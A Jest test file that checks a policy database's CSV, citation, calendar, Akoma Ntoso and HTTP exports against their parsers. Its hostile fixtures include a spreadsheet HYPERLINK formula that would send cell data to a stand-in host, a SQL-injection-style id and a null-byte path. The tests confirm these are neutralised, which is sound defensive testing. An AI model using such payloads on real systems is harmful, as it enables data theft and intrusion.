/** Exports, each read back by a parser of its format: rows with words that would be something else there. */
import { fileURLToPath } from 'node:url';
import { text as textOf } from 'node:stream/consumers';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import { parse as parseBibtex } from 'bibtex-parse';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import jsonld from 'jsonld';
import { openDoor, type OpenDoor } from '../../ingest/door/open.ts';
import { loadKnownNames } from '../../ingest/edges/known.ts';
import { findAct } from '../../ingest/exports/act.ts';
import { exportText } from '../../ingest/exports/export.ts';
import { EXPORT_NAMES, FORMATS_OF, type ExportFormat, type ExportName } from '../../ingest/exports/what.ts';
import { runPipeline } from '../../ingest/pipeline.ts';
import { runFiles } from '../../ingest/runs/run.ts';
import type { Pipeline } from '../../ingest/worker/context.ts';
import { fold } from '../../schema/domain/ids.ts';
import { ANONYMOUS } from '../../schema/domain/viewer.ts';
import type { DoorAnswer } from '../../schema/door.ts';
import { temporaryDirectory } from '../temporary.ts';
import { all, HIERARCHY, inner, MODELS, names, parseXml, words } from './akoma-ntoso.ts';
import { withGraph } from './edges/graph.ts';
import { published } from './edges/lines.ts';

const SAMPLES = fileURLToPath(new URL('../../samples/', import.meta.url));
const ORDER = 'instrument/us/eo/99002';
/** Only cited. */
const UNTITLED = 'instrument/us/eo/2';
const HOSTILE = 'instrument/us/eo/1';
/** A formula, quotes, TeX, what ends a field of RIS or iCalendar, and letters of two and four bytes. */
const TITLE = `=HYPERLINK("http://x.example/?"&A1;1), 100% of {A}_b^c~d\\e & "f" – «é𝄞» ER  - END:VEVENT`;
const ISSUER = 'Mc Donald, Jr., Office of';
const ACT = `+establish; a very long duty, that goes on ${'and on – é𝄞 '.repeat(12)}\\n`;

const graph = withGraph();
const home = temporaryDirectory();
let door: OpenDoor;
const run: Pipeline['run'] = (fetched, names) => runPipeline(fetched, names);

beforeAll(async () => {
  await runFiles(
    {
      pool: graph.pool(),
      archive: `${home}/archive`,
      names: await loadKnownNames(),
      pipeline: { version: 'here', run },
      now: () => new Date('2026-10-01T12:00:00Z'),
      onFault: (error) => {
        throw error;
      },
    },
    {
      paths: ['order-99002-signed.htm'],
      from: SAMPLES,
      maxBytes: 1_000_000,
      jobs: 1,
      signal: new AbortController().signal,
      onProgress: () => undefined,
    },
  );
  const duty = 'obligation/us/eo/1/signed/1/00000000';
  await graph.publish(
    published([
      `version/us/eo/1/signed is {"instrument":"${HOSTILE}","name":"signed","status":"SIGNED"}`,
      `${HOSTILE} kind "EXECUTIVE_ORDER"`,
      `${HOSTILE} number "-1"`,
      `${HOSTILE} title ${JSON.stringify(TITLE)}`,
      `${HOSTILE} issuer ${JSON.stringify(ISSUER)}`,
      `${HOSTILE} signedOn "2026-05"`,
      `${HOSTILE} frCitation "91 FR 12345"`,
      `${UNTITLED} kind "EXECUTIVE_ORDER"`,
      `${UNTITLED} number "2"`,
      `${duty} instrument "${HOSTILE}"`,
      `${duty} act ${JSON.stringify(ACT)}`,
      `${duty} modality "SHALL"`,
      `${duty} deadline {"raw":"in February 2027","dueOn":"2027-02"}`,
    ]),
  );
  door = openDoor({ database: graph.url, home, maxBytes: 1_000_000, onFault: (error) => faults.push(error) });
});
const faults: unknown[] = [];
afterAll(async () => {
  await door.stop();
  expect(faults).toEqual([]);
});

const exported = (name: ExportName, format: ExportFormat, instrument: string | null = null): Promise<string> =>
  textOf(Readable.from(exportText(graph.pool(), name, format, { instrument })));

type Rows = readonly Readonly<Record<string, unknown>>[];
const ndjson = async (name: ExportName, instrument: string | null = null): Promise<Rows> =>
  (await exported(name, 'ndjson', instrument))
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Rows[number]);

describe('tables', () => {
  test('CSV has the values of NDJSON, but no cell that a spreadsheet would run', async () => {
    const csv = parseCsv(await exported('instruments', 'csv'), { columns: true }) as Rows;
    const rows = await ndjson('instruments');
    expect(rows.length).toBeGreaterThan(1);
    expect(csv.map(({ id }) => id)).toEqual(rows.map(({ id }) => id));
    expect(rows.find(({ id }) => id === HOSTILE)).toMatchObject({ title: TITLE, number: '-1' });
    expect(csv.find(({ id }) => id === HOSTILE)).toMatchObject({ title: `'${TITLE}`, number: "'-1" });
    const cells = csv.flatMap((row) => Object.values(row) as string[]);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  test.each(['relations', 'obligations', 'references', 'instruments'] as const)(
    '%s of one instrument are the same as of all, less those of others',
    async (name) => {
      const [all, some] = [await ndjson(name), await ndjson(name, ORDER)];
      expect(some.length).toBeGreaterThan(0);
      const own = ({ id, instrument, from }: Rows[number]): boolean => [id, instrument, from].includes(ORDER);
      expect(some).toEqual(all.filter(own));
      expect(await ndjson(name, "instrument/us/eo/' or true --")).toEqual([]);
    },
  );

  test('JSON-LD: a processor finds each record of the table, with its links as links', async () => {
    const document = JSON.parse(await exported('obligations', 'jsonld')) as jsonld.JsonLdDocument;
    const nodes = await jsonld.expand(document, { base: 'https://graph.example/export/obligations.jsonld' });
    const rows = await ndjson('obligations');
    const idOf = (id: unknown): string =>
      `https://graph.example/r/${String(id).split('/').map(encodeURIComponent).join('/')}`;
    expect(nodes.map((node) => node['@id']).sort()).toEqual(rows.map(({ id }) => idOf(id)).sort());
    const links = nodes.map((node) => (node['urn:recital:instrument'] as [{ '@id': string }])[0]['@id']);
    expect(links.sort()).toEqual(rows.map(({ instrument }) => idOf(instrument)).sort());
  });
});

describe('citations', () => {
  /** White space is one space in a bibliography. */
  const CITED = TITLE.replace(/\s+/g, ' ');
  const VALUES = { title: CITED, volume: '91', page: '12345' };

  test('CSL-JSON', async () => {
    const items = JSON.parse(await exported('instruments', 'csl')) as Rows;
    expect(items.find(({ id }) => id === HOSTILE)).toEqual({
      ...VALUES,
      id: HOSTILE,
      type: 'legislation',
      genre: 'Executive Order',
      number: '-1',
      author: [{ literal: ISSUER }],
      issued: { 'date-parts': [[2026, 5]] },
      'container-title': 'Federal Register',
    });
    expect(items.find(({ id }) => id === ORDER)).toMatchObject({ issued: { 'date-parts': [[2026, 9, 8]] } });
    expect(JSON.parse(await exported('instruments', 'csl', 'instrument/us/eo/0'))).toEqual([]);
    expect(items.find(({ id }) => id === UNTITLED)).toMatchObject({ title: 'Executive Order 2' });
  });

  const printed = (text: string): string =>
    text
      .replace(/^\{(.*)\}$/s, '$1')
      .replace(/\\textbackslash\{\}/g, '\u0000')
      .replace(/\\textasciitilde\{\}/g, '~')
      .replace(/\\textasciicircum\{\}/g, '^')
      .replace(/\\([{}$&%#_])/g, '$1')
      .replaceAll('\u0000', '\\');

  test('BibTeX', async () => {
    const entries = parseBibtex(await exported('instruments', 'bib'));
    const rows = await ndjson('instruments');
    const keys = entries.flatMap(({ itemtype, key }) => (itemtype === 'entry' ? [key] : []));
    expect([keys.length, new Set(keys).size]).toEqual([rows.length, rows.length]);
    const fields = entries.find(({ key }) => key === 'us:eo:1')?.fields ?? [];
    const valueOf = (name: string): string => printed(fields.find((field) => field.name === name)?.value ?? '');
    expect([valueOf('title'), valueOf('author'), valueOf('date'), valueOf('howpublished')]).toEqual([
      CITED,
      ISSUER,
      '2026-05',
      '91 Fed. Reg. 12345',
    ]);
  });

  test('RIS', async () => {
    const lines = (await exported('instruments', 'ris')).split('\r\n');
    const tagged = lines.filter((line) => line !== '').map((line) => /^([A-Z][A-Z0-9]) {2}- (.*)$/.exec(line));
    expect(tagged.filter((match) => match === null)).toEqual([]);
    const records: Record<string, string>[] = [];
    for (const match of tagged) {
      const [, tag = '', value = ''] = match ?? [];
      if (tag === 'TY') records.push({});
      Object.assign(records.at(-1) ?? {}, { [tag]: value });
    }
    expect(records).toHaveLength((await ndjson('instruments')).length);
    expect(records.every((record) => 'TY' in record && 'ER' in record)).toBe(true);
    expect(records.find(({ ID }) => ID === HOSTILE)).toMatchObject({
      TY: 'STAT',
      TI: CITED,
      A1: ISSUER,
      DA: '2026/05/',
      VL: '91',
      SP: '12345',
    });
  });
});

describe('the calendar of due dates', () => {
  interface Event {
    readonly uid: string;
    readonly start: string;
    readonly end: string;
    readonly summary: string;
  }
  const eventsOf = (text: string): readonly Event[] =>
    new ICAL.Component(ICAL.parse(text) as [string, unknown[], unknown[]])
      .getAllSubcomponents('vevent')
      .map((component) => new ICAL.Event(component))
      .map(({ uid, startDate, endDate, summary }) => ({
        uid,
        start: startDate.toString(),
        end: endDate.toString(),
        summary,
      }));

  test('has an event for each duty that is due, over the days that are known', async () => {
    const events = eventsOf(await exported('obligations', 'ics'));
    const due = (await ndjson('obligations')).filter(({ due_on: on }) => on !== null);
    expect(events).toHaveLength(due.length);
    expect(new Set(events.map(({ uid }) => uid)).size).toBe(events.length);
    expect(events).toContainEqual(expect.objectContaining({ start: '2026-12-07', end: '2026-12-08' }));
    const hostile = events.find(({ start }) => start === '2027-02-01');
    // No day is printed: the whole of February.
    expect(hostile).toMatchObject({ end: '2027-03-01', summary: expect.stringContaining(ACT.trim()) });
  });

  test('is written as the standard has it, and alike each time', async () => {
    const text = await exported('obligations', 'ics');
    const lines = text.split('\r\n');
    expect(lines.filter((line) => Buffer.byteLength(line) > 75 || line.includes('\n'))).toEqual([]);
    expect(lines.filter((line) => line === 'TRANSP:TRANSPARENT')).toHaveLength(text.split('BEGIN:VEVENT').length - 1);
    expect(lines).toContain('X-WR-CALNAME:Recital: due dates');
    expect([lines[0], lines.at(-2), lines.at(-1)]).toEqual(['BEGIN:VCALENDAR', 'END:VCALENDAR', '']);
    expect(await exported('obligations', 'ics')).toBe(text);
  });
});

describe('Akoma Ntoso', () => {
  test.each([ORDER, HOSTILE])('%s has the shape of an act', async (instrument) => {
    const root = parseXml(await exported('instruments', 'akn', instrument));
    expect(root.attributes).toEqual({ xmlns: 'http://docs.oasis-open.org/legaldocml/ns/akn/3.0' });
    const wrong = all(root).filter((element) => {
      const model = MODELS[element.name];
      return model ? !model.test(names(element)) : inner(element).some(({ name }) => !/^doc(Number|Title)$/.test(name));
    });
    expect(wrong.map((element) => `${element.name}: ${names(element)}`)).toEqual([]);
    const ids = all(root).flatMap(({ attributes }) => attributes['eId'] ?? []);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.filter((id) => /\s/.test(id))).toEqual([]);
    expect(all(root).filter((one) => HIERARCHY.includes(one.name) && !one.attributes['eId'])).toEqual([]);
    for (const { attributes } of all(root).filter(({ name }) => name === 'FRBRdate'))
      expect(attributes['date']).toMatch(/^\d{4}-\d{2}-\d{2}$/);
  });

  test('has every clause under its id, and every word of the text once, in its order', async () => {
    const act = await findAct(graph.pool(), ORDER);
    const root = parseXml(await exported('instruments', 'akn', ORDER));
    const ids = all(root).flatMap(({ attributes }) => attributes['eId'] ?? []);
    const clauses = await graph.rows<{ id: string }>(
      `select e_id as id from policies.provision where instrument = $1 and known_to is null`,
      [ORDER],
    );
    expect(clauses.length).toBeGreaterThan(5);
    expect(ids).toEqual(expect.arrayContaining(clauses.map(({ id }) => id)));
    const text = all(root)
      .filter(({ name }) => ['preamble', 'body', 'conclusions'].includes(name))
      .map(words)
      .join(' ');
    expect(fold(text)).toBe(fold(act?.text ?? ''));
  });
});

describe('everything', () => {
  test('is all rows of all tables', async () => {
    const counts: Record<string, number> = {};
    for (const { kind } of await ndjson('everything')) counts[String(kind)] = (counts[String(kind)] ?? 0) + 1;
    const count = async (table: string, where = 'true'): Promise<number> =>
      (await graph.rows<{ n: number }>(`select count(*)::int as n from evidence.${table} where ${where}`))[0]?.n ?? 0;
    expect(counts).toEqual({
      source: await count('source'),
      revision: await count('revision'),
      record: await count('record', 'withdrawn_at is null and canonical_id = id'),
      statement: await count('statement'),
      quote: await count('quote'),
      ...((await count('conflict')) > 0 ? { conflict: await count('conflict') } : {}),
      ...((await count('decision')) > 0 ? { decision: await count('decision') } : {}),
    });
  });
});

describe('over HTTP', () => {
  const get = (target: string, signal = new AbortController().signal): Promise<DoorAnswer> =>
    door.door({
      method: 'GET',
      target,
      headers: {},
      body: Readable.from([]),
      requestId: 'test',
      viewer: ANONYMOUS,
      signal,
    });
  const bodyOf = async ({ body }: DoorAnswer): Promise<string> => (typeof body === 'string' ? body : textOf(body));

  test('each export that is listed answers with its type', async () => {
    const { exports } = JSON.parse(await bodyOf(await get('/export/'))) as {
      exports: readonly { href: string; type: string }[];
    };
    expect(exports).toHaveLength(EXPORT_NAMES.flatMap((name) => FORMATS_OF[name]).length);
    for (const { href, type } of exports) {
      const answer = await get(href.endsWith('.akn') ? `${href}?instrument=${ORDER}` : href);
      expect([href, answer.status, answer.headers['content-type']]).toEqual([href, 200, type]);
      expect((await bodyOf(answer)).length).toBeGreaterThan(10);
    }
  });

  test.each([
    ['/export/secrets.csv', 404],
    ['/export/instruments.constructor', 404],
    ['/export/everything.csv', 400],
    ['/export/instruments.akn', 400],
    ['/export/instruments.akn?instrument=instrument/us/eo/0', 404],
    ['/export/instruments.csv?instrument=agency/cisa', 400],
    ['/export/instruments.csv?instrument=instrument/%00', 400],
  ])('%s is a problem', async (target, status) => {
    const answer = await get(target);
    expect([answer.status, answer.headers['content-type']]).toEqual([
      status,
      'application/problem+json; charset=utf-8',
    ]);
  });

  test('what nobody takes is not made; so many at once; and whoever leaves makes room', async () => {
    const open = await Promise.all(Array.from({ length: 4 }, () => get('/export/everything.ndjson')));
    const fifth = await get('/export/everything.ndjson');
    expect([fifth.status, fifth.headers['retry-after']]).toEqual([503, '10']);
    for (const { body } of open) {
      if (typeof body === 'string') throw new Error('no stream');
      // One piece is at hand, and no more than the stream's own buffer was made.
      expect(body.readableLength).toBeLessThan(1_000_000);
      const closed = new Promise((resolve) => body.once('close', resolve));
      body.destroy();
      await closed;
    }
    expect((await bodyOf(await get('/export/everything.ndjson'))).split('\n').length).toBeGreaterThan(100);
  });

  test('of those who have taken nothing for long the slowest gives way to whoever comes, and no other does', async () => {
    const open = await Promise.all(Array.from({ length: 4 }, () => get('/export/everything.ndjson')));
    const streams = open.map(({ body }) => {
      if (typeof body === 'string') throw new Error('no stream');
      return body;
    });
    const clock = jest.spyOn(performance, 'now');
    try {
      const later = performance.now() + 10_500;
      clock.mockImplementation(() => later);
      expect((await bodyOf(await get('/export/everything.ndjson'))).split('\n').length).toBeGreaterThan(100);
      expect(streams.filter(({ destroyed }) => destroyed)).toHaveLength(1);
    } finally {
      clock.mockRestore();
      for (const stream of streams) stream.destroy();
    }
  });
});
